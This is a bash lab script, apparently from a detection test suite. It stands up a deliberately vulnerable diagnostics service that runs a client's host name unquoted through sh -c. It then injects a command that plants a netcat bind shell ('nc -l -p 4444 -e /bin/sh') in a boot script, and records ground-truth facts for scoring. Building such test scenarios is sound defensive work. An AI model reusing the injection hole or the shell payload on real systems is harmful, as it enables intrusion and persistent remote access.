#!/usr/bin/env bash
# Intrusion through a network service: a device's diagnostics API (socat, one forked handler per
# connection) passes the client's host name to a shell; one client injects a command that adds a
# line to the boot script. Benign clients use the same service before and after, and their
# handlers write the same request log.
#   scripts/lab/audit/service.sh WORKDIR NONCE
. "$(dirname "$0")/lib.sh"
work=$(realpath -m "$1"); nonce=$2
mkdir -p "$work"/{svc,victim}
svc_pid=
attacker_host 3
trap 'cleanup $svc_pid' EXIT
background_noise "$work"

cat > "$work/svc/handler.sh" <<HANDLER
#!/bin/sh
# Reads one line, the host to check, and (the bug) hands it to a shell unquoted.
read -r host
sh -c "echo checking \$host" >> $work/svc/requests.log
echo ok
HANDLER
chmod +x "$work/svc/handler.sh"
echo "#!/bin/sh" > "$work/victim/rc.local"
port=$(free_port)
socat "TCP-LISTEN:$port,bind=$host_ip,reuseaddr,fork" "EXEC:$work/svc/handler.sh" &
svc_pid=$!
wait_listen "$host_ip" "$port"
client_port=$(free_port)

# Benign requests before the attack.
echo "gateway.local" | nc -q 2 "$host_ip" "$port" >/dev/null
echo "camera.local" | nc -q 2 "$host_ip" "$port" >/dev/null
settle

# The attack, from the attacker's host: a command injected from a fixed client port.
echo "x; echo 'nc -l -p 4444 -e /bin/sh # $nonce' >> $work/victim/rc.local" |
    on_attacker nc -q 2 -p "$client_port" "$host_ip" "$port" >/dev/null
settle
detect_at=$(now)
settle

# After: another benign request, and an administrator who reads the boot script.
echo "sensor.local" | nc -q 2 "$host_ip" "$port" >/dev/null
cat "$work/victim/rc.local" > /dev/null
settle

cat > "$work/facts.json" <<JSON
{
  "scenario": "service",
  "damaged": $(json_str "$work/victim/rc.local"),
  "detect_at": $detect_at,
  "entry": "socket:$atk_ip:$client_port",
  "chain": $(json_list "socat TCP-LISTEN:$port" "$work/svc/handler.sh" "echo checking x; echo"),
  "decoys": $(json_list "gateway.local" "camera.local" "sensor.local"),
  "unique": $(json_list "/bin/sh $work/svc/handler.sh"),
  "modified": $(json_list "$work/svc/requests.log" "$work/victim/rc.local")
}
JSON
end_marker "$nonce"
